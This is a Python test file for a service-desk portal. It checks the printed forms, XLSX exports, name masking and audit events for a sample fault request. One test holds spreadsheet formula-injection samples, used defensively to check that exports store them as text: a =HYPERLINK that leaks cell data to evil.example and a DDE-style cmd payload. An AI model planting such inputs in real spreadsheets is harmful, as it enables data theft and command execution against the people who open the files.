"""The template's example entered through the pages (SD passing both criteria, FB 5/4/5 → 4.7
with its measure) and printed: the printed tables have the template's columns and cells. Also
the XLSX exports, masking on the printed forms, and the demo's deliveries and feedback."""

from __future__ import annotations

import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from freezegun import freeze_time
from openpyxl import load_workbook
from sqlalchemy import select

from portal.models import (
    AuditEvent,
    Delivery,
    Feedback,
    HandlingRecord,
    HandlingStep,
    ServiceRequest,
    Signature,
)
from portal.services import delivery as delivery_service
from portal.services.numbers import next_number
from tests.customer.helpers import attach
from tests.delivery.helpers import (
    HTMX,
    PNG_DATA_URL,
    criteria_ids,
    deliver_form,
    feedback_of,
    form_table,
    latest_delivery,
    reload,
)

TZ = "Asia/Shanghai"


def utc(hh: int, mm: int, day: int = 1) -> datetime:
    """2024-10-<day> hh:mm in Shanghai, as UTC."""
    return datetime(2024, 10, day, hh - 8, mm, tzinfo=UTC)


@pytest.fixture
def example(app, factory, db_session, make_client):
    """The template's example up to the delivery: SR 生产系统无法登录 (P1) with its screenshot
    and error log, handled by 张强 with the four timed steps of the IR (2.5 h)."""
    with freeze_time(utc(9, 30)) as clock:
        org = factory.organisation(name="客户A")
        contact = factory.customer(org, name="李明", phone="13812345678")
        handler = factory.staff("engineer", name="张强")
        supervisor = factory.staff("supervisor", name="赵静")
        sr = factory.request(
            contact, title="生产系统无法登录", description="生产系统无法登录", urgency="P1"
        )
        attach(app, db_session, sr, contact, b"\x89PNG\r\n\x1a\n" + b"\x00" * 32, "系统截图.png")
        attach(app, db_session, sr, contact, b"ERROR db timeout\n", "错误日志.txt")
        sr.status, sr.priority, sr.handler_id = "in_progress", "P1", handler.id
        record = HandlingRecord(
            number=next_number(db_session, "IR", utc(9, 30), TZ),
            request_id=sr.id,
            handler_id=handler.id,
            workaround="重启数据库服务",
            final_result="数据库连接已恢复,用户可正常登录",
        )
        db_session.add(record)
        db_session.flush()
        for (hh, mm), operation, hours, visible in (
            ((9, 30), "接收工单,远程登录系统排查", "0.75", True),
            ((10, 15), "定位为数据库连接超时", "0.25", True),
            ((10, 20), "核对运维值班表,联系运维王工", "0", False),  # internal: never printed
            ((10, 30), "协同运维王工重启数据库服务", "0.5", True),
            ((11, 0), "系统恢复正常", "1.0", True),
        ):
            db_session.add(
                HandlingStep(
                    record_id=record.id,
                    author_id=handler.id,
                    occurred_at=utc(hh, mm),
                    operation=operation,
                    hours=Decimal(hours),
                    visible_to_customer=visible,
                )
            )
        db_session.flush()
        staff = make_client()
        staff.login(handler)
        customer = make_client()
        customer.login(contact)
        boss = make_client()
        boss.login(supervisor)
        yield dict(
            sr=sr,
            contact=contact,
            handler=handler,
            supervisor=supervisor,
            staff=staff,
            customer=customer,
            boss=boss,
            clock=clock,
        )


def _walk_to_feedback(ex, db_session):
    """Deliver, accept (both criteria), countersign, rate 5/4/5 and add the measure: all through
    the pages."""
    sr, staff, customer, boss, clock = (ex[k] for k in ("sr", "staff", "customer", "boss", "clock"))
    clock.move_to(utc(11, 10))
    resp = staff.post(f"/staff/requests/{sr.number}/deliver", data=deliver_form(), headers=HTMX)
    assert resp.status_code == 200, resp.get_data(as_text=True)[:2000]
    dlv = latest_delivery(db_session, sr)

    clock.move_to(utc(11, 30))
    review = customer.get(f"/requests/{sr.number}").get_data(as_text=True)
    assert dlv.content_hash in review
    resp = customer.post(
        f"/requests/{sr.number}/acceptance",
        data={
            "accept-met": [str(i) for i in criteria_ids(db_session, dlv)],
            "accept-result": "pass",
            "accept-typed_name": "李明",
            "accept-signature": PNG_DATA_URL,
            "accept-content_hash": dlv.content_hash,
        },
    )
    assert resp.status_code == 302
    clock.move_to(utc(11, 40))
    resp = staff.post(
        f"/staff/requests/{sr.number}/countersign",
        data={"countersign-typed_name": "张强", "countersign-signature": PNG_DATA_URL},
        headers=HTMX,
    )
    assert resp.status_code == 200

    clock.move_to(utc(14, 0))
    resp = customer.post(
        f"/requests/{sr.number}/feedback",
        data={
            "rate-score_response": "5",
            "rate-score_effect": "4",
            "rate-score_attitude": "5",
            "rate-suggestions": "希望增加故障预警功能",
        },
    )
    assert resp.status_code == 302
    clock.move_to(utc(15, 0))
    resp = boss.post(
        f"/staff/requests/{sr.number}/measures",
        data={
            "measure-measure": "记录需求,纳入下一季度产品优化计划",
            "measure-owner": str(ex["supervisor"].id),
            "measure-deadline": "2024-12-31",
        },
        headers=HTMX,
    )
    assert resp.status_code == 200, resp.get_data(as_text=True)[:2000]
    return dlv


def test_the_template_example_entered_and_printed(example, db_session):
    ex = example
    sr = ex["sr"]
    dlv = _walk_to_feedback(ex, db_session)
    assert reload(db_session, sr).status == "closed"
    fb = feedback_of(db_session, sr)

    # SD, printed by the customer (who sees their own name in full, the handler's masked)
    page = ex["customer"].get(f"/requests/{sr.number}/print/sd").get_data(as_text=True)
    heads, rows = form_table(page)
    assert heads == [
        "Delivery number",
        "Customer name",
        "Service item",
        "Deliverables",
        "Acceptance criteria",
        "Result (pass / fail)",
        "Customer signature",
        "Date",
    ]
    assert rows == [
        {
            "Delivery number": dlv.number,
            "Customer name": "客户A",
            "Service item": "生产系统故障修复",
            "Deliverables": "故障原因分析报告 | 系统恢复操作记录 | 后续维护建议",
            "Acceptance criteria": "系统登录无异常 | 故障报告内容完整",
            "Result (pass / fail)": "Pass",
            "Customer signature": "李明",
            "Date": "2024-10-01 11:30",
        }
    ]
    assert dlv.number == "SD-20241001-001"
    assert page.count('class="signature-image"') == 2  # both signatures on one form
    assert "张*" in page and dlv.content_hash in page

    # SD printed by a supervisor who is not on the request: the customer's name is masked
    _heads, rows = form_table(
        ex["boss"].get(f"/staff/requests/{sr.number}/print/sd").get_data(as_text=True)
    )
    assert rows[0]["Customer signature"] == "李*"

    # FB
    page = ex["customer"].get(f"/requests/{sr.number}/print/fb").get_data(as_text=True)
    heads, rows = form_table(page)
    assert heads == [
        "Feedback number",
        "Service request",
        "Customer name",
        "Scores (response timeliness / handling effect / service attitude)",
        "Satisfaction (1–5, 5 best)",
        "Suggestions",
        "Improvement measures",
    ]
    assert rows == [
        {
            "Feedback number": "FB-20241001-001",
            "Service request": sr.number,
            "Customer name": "客户A",
            "Scores (response timeliness / handling effect / service attitude)": (
                "Response timeliness: 5 | Handling effect: 4 | Service attitude: 5"
            ),
            "Satisfaction (1–5, 5 best)": "4.7",
            "Suggestions": "希望增加故障预警功能",
            "Improvement measures": "记录需求,纳入下一季度产品优化计划 (owner: 赵*; deadline: 2024-12-31)",
        }
    ]
    assert fb.number == "FB-20241001-001"
    staff_fb = form_table(
        ex["boss"].get(f"/staff/requests/{sr.number}/print/fb").get_data(as_text=True)
    )[1]
    assert staff_fb[0]["Improvement measures"] == (
        "记录需求,纳入下一季度产品优化计划 (owner: 赵静; deadline: 2024-12-31)"
    )

    # SR and IR of the same example, as the supervisor (not on the request) prints them
    heads, rows = form_table(
        ex["boss"].get(f"/staff/requests/{sr.number}/print/sr").get_data(as_text=True)
    )
    assert heads[:4] == ["Form number", "Customer name", "Contact", "Contact details (masked)"]
    assert rows[0] == {
        "Form number": sr.number,
        "Customer name": "客户A",
        "Contact": "李*",
        "Contact details (masked)": "****5678",
        "Description": "生产系统无法登录",
        "Request type": "Fault",
        "Urgency": "P1",
        "Attachment details": "系统截图.png | 错误日志.txt",
        "Submitted at": "2024-10-01 09:30",
        "Current status": "Closed",
        "Handler": "张强",
    }
    assert sr.number == "SR-20241001-001"
    heads, rows = form_table(
        ex["boss"].get(f"/staff/requests/{sr.number}/print/ir").get_data(as_text=True)
    )
    assert rows == [
        {
            "Record number": "IR-20241001-001",
            "Service request": sr.number,
            "Handler": "张强",
            "Steps (time + operation)": (
                "09:30 接收工单,远程登录系统排查 | 10:15 定位为数据库连接超时 | "
                "10:30 协同运维王工重启数据库服务 | 11:00 系统恢复正常"
            ),
            "Hours spent": "2.5",
            "Temporary workaround": "重启数据库服务",
            "Final result": "数据库连接已恢复,用户可正常登录",
            "Customer sign-off": "李* (2024-10-01 11:30)",
        }
    ]
    # the customer sees the same form with their name in full and the handler masked
    _h, rows = form_table(
        ex["customer"].get(f"/requests/{sr.number}/print/ir").get_data(as_text=True)
    )
    assert rows[0]["Customer sign-off"] == "李明 (2024-10-01 11:30)"
    assert rows[0]["Handler"] == "张*"
    assert "核对运维值班表" not in ex["customer"].get(f"/requests/{sr.number}/print/ir").get_data(
        as_text=True
    )


def test_the_print_pages_have_print_css_and_are_linked_from_both_request_pages(example, db_session):
    ex = example
    sr = ex["sr"]
    for client, prefix in ((ex["customer"], ""), (ex["staff"], "/staff")):
        page = client.get(f"{prefix}/requests/{sr.number}").get_data(as_text=True)
        for form in ("sr", "ir", "sd", "fb"):
            assert f'href="{prefix}/requests/{sr.number}/print/{form}"' in page
            assert f'href="{prefix}/requests/{sr.number}/export/{form}.xlsx"' in page
        printed = client.get(f"{prefix}/requests/{sr.number}/print/sd").get_data(as_text=True)
        assert "css/print.css" in printed
        assert "This form has not been filled in yet." in printed
    css = ex["staff"].get("/static/css/print.css").get_data(as_text=True)
    assert "@media print" in css


def test_a_printed_form_is_in_the_readers_language(example, db_session):
    ex = example
    sr = ex["sr"]
    english = ex["customer"].get(f"/requests/{sr.number}/print/sr").get_data(as_text=True)
    _h, rows = form_table(english)
    assert (rows[0]["Request type"], rows[0]["Current status"]) == ("Fault", "In progress")
    from portal.models import Account

    db_session.get(Account, ex["contact"].id).locale = "zh_CN"
    db_session.flush()
    chinese = ex["customer"].get(f"/requests/{sr.number}/print/sr").get_data(as_text=True)
    assert '<html lang="zh-CN">' in chinese
    row = form_table(chinese)[1][0]
    assert "故障类" in row.values() and "处理中" in row.values()
    assert "时间以 Asia/Shanghai 为准" in chinese


# the column headings of the template's four tables, run together as the template prints them
TEMPLATE_HEADINGS = {
    "sr": "表单编号客户名称联系人联系方式(脱敏)需求描述需求类型紧急程度附件信息提交时间当前状态处理负责人",
    "ir": "问题编号关联服务请求处理负责人处理步骤(时间+操作)耗时临时解决方案最终处理结果客户确认签字",
    "sd": "交付编号客户名称服务项目交付内容清单验收标准验收结果(通过/不通过)客户签字日期",
    "fb": "反馈编号关联服务请求客户名称评价维度(响应及时性/处理效果/服务态度)满意度(1-5分,5分最高)意见建议改进措施",
}


def test_the_forms_in_chinese_have_the_templates_headings(example, db_session):
    """Printed and exported in Chinese, each form is headed in the template's words; over contact
    details the reader sees in full the heading drops 脱敏 (masked), which would be untrue."""
    from portal.models import Account

    ex = example
    sr = ex["sr"]
    _walk_to_feedback(ex, db_session)
    for who in ("supervisor", "contact"):
        db_session.get(Account, ex[who].id).locale = "zh_CN"
    db_session.flush()
    # the supervisor is not on the request: the contact is masked, as in the template's example
    for form, expected in TEMPLATE_HEADINGS.items():
        page = ex["boss"].get(f"/staff/requests/{sr.number}/print/{form}").get_data(as_text=True)
        heads, _rows = form_table(page)
        assert "".join(heads) == expected, form
        resp = ex["boss"].get(f"/staff/requests/{sr.number}/export/{form}.xlsx")
        ws = load_workbook(io.BytesIO(resp.data)).active
        assert [c.value for c in ws[1]] == heads, form
    # the customer sees their own contact details in full
    heads, rows = form_table(
        ex["customer"].get(f"/requests/{sr.number}/print/sr").get_data(as_text=True)
    )
    assert heads[3] == "联系方式" and rows[0]["联系方式"] == "13812345678"
    ws = load_workbook(
        io.BytesIO(ex["customer"].get(f"/requests/{sr.number}/export/sr.xlsx").data)
    ).active
    assert ws.cell(row=1, column=4).value == "联系方式"


def test_xlsx_exports_hold_the_printed_fields_and_are_audited(example, db_session):
    ex = example
    sr = ex["sr"]
    _walk_to_feedback(ex, db_session)
    for client, prefix in ((ex["customer"], ""), (ex["boss"], "/staff")):
        for form in ("sr", "ir", "sd", "fb"):
            printed_heads, printed_rows = form_table(
                client.get(f"{prefix}/requests/{sr.number}/print/{form}").get_data(as_text=True)
            )
            resp = client.get(f"{prefix}/requests/{sr.number}/export/{form}.xlsx")
            assert resp.status_code == 200
            assert resp.headers["Content-Type"].startswith(
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
            )
            assert "attachment" in resp.headers["Content-Disposition"]
            ws = load_workbook(io.BytesIO(resp.data)).active
            rows = list(ws.iter_rows(values_only=True))
            assert list(rows[0]) == printed_heads
            exported = dict(zip(printed_heads, rows[1], strict=True))
            for head, cell in printed_rows[0].items():
                # lists are one line per entry in the workbook, " | " in the parsed page
                value = exported[head] or ""
                flat = " | ".join(
                    line.split(". ", 1)[1]
                    if form == "sd" and head in ("Deliverables", "Acceptance criteria")
                    else line
                    for line in value.split("\n")
                )
                assert flat == cell, (form, head)
    events = db_session.scalars(
        select(AuditEvent).where(AuditEvent.action == "export", AuditEvent.object_id == sr.number)
    ).all()
    assert sorted(e.after["form"] for e in events) == sorted(["sr", "ir", "sd", "fb"] * 2)
    assert {e.actor_id for e in events} == {ex["contact"].id, ex["supervisor"].id}
    # the SD workbook carries the signatures and the content hash
    ws = load_workbook(
        io.BytesIO(ex["boss"].get(f"/staff/requests/{sr.number}/export/sd.xlsx").data)
    ).active
    flat = [c for row in ws.iter_rows(values_only=True) for c in row if c]
    dlv = latest_delivery(db_session, sr)
    assert dlv.content_hash in flat and "李*" in flat and "张强" in flat


def test_the_demo_deliveries_and_feedback_follow_the_rules(db_session, app):
    from portal import demo
    from portal.domain.feedback import mean_score

    result = demo.seed(db_session, datetime(2024, 10, 8, 4, 0, tzinfo=UTC), TZ)
    assert result.created
    deliveries = db_session.scalars(select(Delivery)).all()
    assert deliveries
    for dlv in deliveries:
        integrity = delivery_service.verify(db_session, dlv)
        assert integrity.intact, dlv.number
        parties = set(
            db_session.scalars(select(Signature.party).where(Signature.delivery_id == dlv.id))
        )
        assert parties == ({"customer", "handler"} if dlv.result == "pass" else set())
    for fb in db_session.scalars(select(Feedback)):
        assert fb.mean_score == mean_score(fb.score_response, fb.score_effect, fb.score_attitude)
    example = db_session.scalar(
        select(ServiceRequest).where(
            ServiceRequest.title == "生产系统无法登录", ServiceRequest.status == "closed"
        )
    )
    fb = feedback_of(db_session, example)
    assert fb.mean_score == Decimal("4.7")
    dlv = db_session.scalar(select(Delivery).where(Delivery.request_id == example.id))
    assert dlv.service_item == "生产系统故障修复" and dlv.result == "pass"


# what a customer or an engineer may type that a spreadsheet would read as a formula
FORMULA_LIKE = {
    "=": '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)",
    "tab": "\t=1+1",
    "cr": "\r=2+2",
}


def test_typed_text_that_looks_like_a_formula_is_exported_as_text(example, db_session):
    """Every export writes user text as a string cell, exactly as typed, never as a formula
    (openpyxl would make "=…" one): a live =HYPERLINK could send the sheet's data away."""
    from portal.models import ImprovementMeasure

    ex = example
    sr = ex["sr"]
    dlv = _walk_to_feedback(ex, db_session)
    f = FORMULA_LIKE
    sr.description = f["="]
    record = db_session.scalar(select(HandlingRecord).where(HandlingRecord.request_id == sr.id))
    record.workaround, record.final_result = f["="], f["tab"]
    record.customer_confirmed_name = f["-"]
    dlv.service_item = f["="]
    for sig in db_session.scalars(select(Signature).where(Signature.delivery_id == dlv.id)):
        sig.typed_name = f["@"] if sig.party == "customer" else f["+"]
    fb = feedback_of(db_session, sr)
    fb.suggestions = f["cr"]
    db_session.scalar(
        select(ImprovementMeasure).where(ImprovementMeasure.feedback_id == fb.id)
    ).measure = f["="]
    db_session.flush()
    expected = {
        "sr": {"Description": f["="]},
        "ir": {"Temporary workaround": f["="], "Final result": f["tab"]},
        "sd": {"Service item": f["="], "Customer signature": f["@"]},
        # a line end is stored as LF in the workbook's XML: the CR reads back as a line break
        "fb": {"Suggestions": "\n=2+2"},
    }
    for form, cells in expected.items():
        resp = ex["customer"].get(f"/requests/{sr.number}/export/{form}.xlsx")
        assert resp.status_code == 200
        ws = load_workbook(io.BytesIO(resp.data)).active
        heads = [c.value for c in ws[1]]
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row), form
        for head, text in cells.items():
            cell = ws[2][heads.index(head)]
            assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), (form, head)
    # the signatures table below the SD, as the handler exports it (both names in full)
    ws = load_workbook(
        io.BytesIO(ex["staff"].get(f"/staff/requests/{sr.number}/export/sd.xlsx").data)
    ).active
    cells = {c.value: c for row in ws.iter_rows() for c in row if c.value}
    assert all(c.data_type != "f" for c in cells.values())
    assert cells[f["@"]].data_type == cells[f["+"]].data_type == "s"
    # the IR's confirmation: the customer's name first
    ws = load_workbook(
        io.BytesIO(ex["customer"].get(f"/requests/{sr.number}/export/ir.xlsx").data)
    ).active
    confirmation = ws[2][[c.value for c in ws[1]].index("Customer sign-off")]
    assert (confirmation.data_type, confirmation.value) == ("s", f["-"] + " (2024-10-01 11:30)")
    ws = load_workbook(
        io.BytesIO(ex["customer"].get(f"/requests/{sr.number}/export/fb.xlsx").data)
    ).active
    measures = ws[2][[c.value for c in ws[1]].index("Improvement measures")]
    assert measures.data_type == "s" and measures.value.startswith(f["="] + " (owner: ")


def test_control_characters_in_typed_text_do_not_break_an_export(example, db_session):
    """A pasted vertical tab or form feed cannot be stored in a workbook: it is left out,
    rather than the export failing."""
    ex = example
    sr = ex["sr"]
    sr.description = "第一段\x0b第二段\x0c"
    db_session.flush()
    resp = ex["customer"].get(f"/requests/{sr.number}/export/sr.xlsx")
    assert resp.status_code == 200
    ws = load_workbook(io.BytesIO(resp.data)).active
    assert ws[2][[c.value for c in ws[1]].index("Description")].value == "第一段第二段"
